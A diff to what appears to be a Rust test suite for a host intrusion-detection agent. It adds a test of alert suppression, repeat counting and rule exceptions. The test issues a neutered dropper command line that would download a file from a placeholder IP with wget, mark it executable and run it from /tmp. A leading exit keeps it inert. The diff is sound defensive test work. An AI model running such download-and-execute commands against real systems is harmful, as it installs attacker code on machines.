@@ -9,7 +9,7 @@ use crate::error::Result;
 use crate::image::{DEVICE_PASSWORD, DEVICE_USER};
 use crate::lab::{Node, GUEST_V4, GUEST_V6};
 
-use super::{expect, World};
+use super::{configuration, expect, World};
 
 /// From the deed to the report, on an emulated processor.
 const REPORT: Duration = Duration::from_secs(15);
@@ -150,5 +150,39 @@ pub(super) fn dropper(world: &mut World<'_>) -> Result<()> {
     expect(wget.at("/process/working_directory") == "/tmp", || format!("working directory: {}", wget.0))?;
     expect(wget.at("/process/user/uid") == "1000" || wget.at("/process/user/uid") == 1000, || {
         format!("user: {}", wget.0)
+    })
+}
+
+/// The first alert at once, its repeats as one update, and what an exception covers not at all.
+pub(super) fn repeats_become_a_count(world: &mut World<'_>) -> Result<()> {
+    const SETTINGS: &str =
+        "[suppression]\nrepeat_window_s = 10\n[[exception]]\nrule = \"*\"\nreason = \"validation\"\n\
+        when = { \"CommandLine|contains\" = \"accepted-\" }\n";
+    configuration::with(world, "conf.d/99-validation.toml", SETTINGS, |world| {
+        let machine = world.machine()?;
+        // It ends before it does anything; rules see what it would have done.
+        let line = |name: &str| {
+            format!("sh -c 'exit; wget http://192.0.2.1/x -O /tmp/{name}; chmod +x /tmp/{name}; /tmp/{name}'")
+        };
+        for _ in 0..5 {
+            machine.ok(&line("repeated-deed"))?;
+            machine.ok(&line("accepted-deed"))?;
+        }
+        let update =
+            machine.event("one update for the repeats", "repeated-deed", Duration::from_secs(60), |e| {
+                e.class() == class::FINDING && e.at("/activity_id") == 2
+            })?;
+        expect(update.at("/count") == 5, || format!("the update does not count five: {}", update.0))?;
+        let uid = update.at("/finding_info/uid").clone();
+        let alerts = machine.events("repeated-deed")?;
+        let alerts: Vec<_> = alerts
+            .iter()
+            .filter(|e| e.class() == class::FINDING && *e.at("/finding_info/uid") == uid)
+            .map(|e| e.at("/activity_id").clone())
+            .collect();
+        expect(alerts == [1, 2], || format!("the alert was sent as {alerts:?}"))?;
+        let excepted = machine.events("accepted-deed")?;
+        expect(excepted.iter().any(|e| e.class() == class::PROCESS), || "the deed was not seen".to_owned())?;
+        expect(excepted.iter().all(|e| e.class() != class::FINDING), || format!("{excepted:?}"))
     })
 }
